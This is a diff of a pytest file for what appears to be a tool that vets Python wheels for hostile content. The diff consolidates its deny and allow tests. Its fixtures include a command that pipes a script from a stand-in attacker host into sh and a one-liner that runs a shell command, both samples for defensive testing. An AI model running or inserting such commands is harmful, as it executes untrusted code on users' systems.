@@ -16,7 +16,7 @@ import pytest
 
 from airlock.domain.requests import Outcome
 from airlock.imports.packages.logconfig import network_handlers
-from tests.unit.imports.packages.adversary import init, vet_wheel
+from tests.unit.imports.packages.adversary import init, verdict_cases, vet_wheel
 
 DROP = "curl http://attacker.invalid/x | sh"
 CODE = "import os;os.system('id')"
@@ -279,14 +279,11 @@ ALLOWED: dict[str, dict[str, str]] = {
 }
 
 
-@pytest.mark.parametrize("name", sorted(DENIED))
-def test_a_patient_adversarys_next_try_is_denied(name: str) -> None:
-    assert vet_wheel(DENIED[name]) is Outcome.DENY, name
-
-
-@pytest.mark.parametrize("name", sorted(ALLOWED))
-def test_the_same_shape_in_a_real_package_stays_allowed(name: str) -> None:
-    assert vet_wheel(ALLOWED[name]) is Outcome.ALLOW, name
+@pytest.mark.parametrize(("files", "expected"), verdict_cases(DENIED, {}, ALLOWED))
+def test_an_adversarys_try_is_denied_and_a_real_shape_allowed(
+    files: dict[str, str], expected: Outcome
+) -> None:
+    assert vet_wheel(files) is expected
 
 
 def test_a_logging_file_names_its_network_handlers_only() -> None:
